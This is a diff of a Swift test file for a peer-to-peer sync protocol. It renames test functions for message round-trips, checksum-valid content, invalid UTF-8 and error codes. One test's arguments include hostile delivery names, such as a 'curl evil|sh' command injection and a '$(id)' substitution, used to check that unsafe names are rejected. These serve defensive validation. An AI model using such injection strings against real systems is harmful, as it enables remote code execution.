@@ -80,7 +80,7 @@ import Testing
     ]
   }
 
-  @Test func `what is sent is what is understood`() throws {
+  @Test func `the values sent equal the values understood`() throws {
     for request in requests { #expect(try PeerRequest(request.bytes) == request) }
     for answer in answers { #expect(try PeerAnswer(answer.bytes) == answer) }
   }
@@ -101,7 +101,7 @@ import Testing
   }
 
   /// Anybody who can compute the checksum can send any content.
-  @Test func `nothing that can be said behind a right checksum does harm`() async throws {
+  @Test func `no content with a valid checksum causes harm`() async throws {
     let store = try PeerWorld.store()
     var random = SeededGenerator(seed: 7)
     for request in requests {
@@ -123,7 +123,7 @@ import Testing
   }
 
   @Test(arguments: ["x; curl evil|sh", "", "a b", "\u{1B}[2J", "$(id)", String(repeating: "a", count: 65)])
-  func `a delivery that is called as none is`(name: String) throws {
+  func `a delivery whose name no delivery has`(name: String) throws {
     var delivery = try #require(parcel.deliveries.first)
     #expect(delivery.isPlausible)
     // The name appears in suggested commands.
@@ -142,7 +142,7 @@ import Testing
     }
   }
 
-  @Test func `text that is none is refused`() {
+  @Test func `invalid text is refused`() {
     for text: [UInt8] in [[0xC3], [0xED, 0xA0, 0x80], [0x61, 0x00], [0xF8, 0x88, 0x80, 0x80, 0x80]] {
       let sealed = PeerFrame.seal { writer in
         writer.put(byte: 3)
@@ -163,7 +163,7 @@ import Testing
     }
   }
 
-  @Test func `a trouble is kept as a word`() {
+  @Test func `a problem is stored as a word`() {
     let troubles: [PeerError] = [
       .damaged, .otherDialect, .sameStore, .clock(seconds: -75), .unexpectedAnswer, .unreachable, .untrusted, .noKey,
       .answered(status: 500), .busy, .ownStore, .refused(3),
@@ -172,7 +172,7 @@ import Testing
     #expect(PeerError(code: "something new") == nil)
   }
 
-  @Test func `what only a newer version knows stays where it is`() async throws {
+  @Test func `data that only a newer version understands stay where they are`() async throws {
     let (home, laptop) = (try PeerWorld.store(), try PeerWorld.store())
     let device = try await home.greeting(clock: 0).device
     var parcel = PeerParcel()
